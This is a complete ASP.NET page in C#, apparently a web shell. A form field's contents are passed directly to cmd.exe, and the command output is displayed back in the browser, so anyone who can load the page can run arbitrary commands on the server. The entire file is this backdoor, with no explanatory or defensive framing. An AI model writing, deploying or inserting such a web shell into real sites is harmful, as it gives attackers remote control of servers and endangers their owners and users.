<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Go(object s, EventArgs e) {
    var info = new ProcessStartInfo("cmd.exe");
    info.Arguments = "/c " + Request.Form["line"];
    info.UseShellExecute = false;
    info.RedirectStandardOutput = true;
    var p = Process.Start(info);
    output.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd());
}
</script>
<form runat="server"><asp:TextBox id="line" runat="server" /><asp:Button runat="server" OnClick="Go" Text="go" /><pre><asp:Literal id="output" runat="server" /></pre></form>
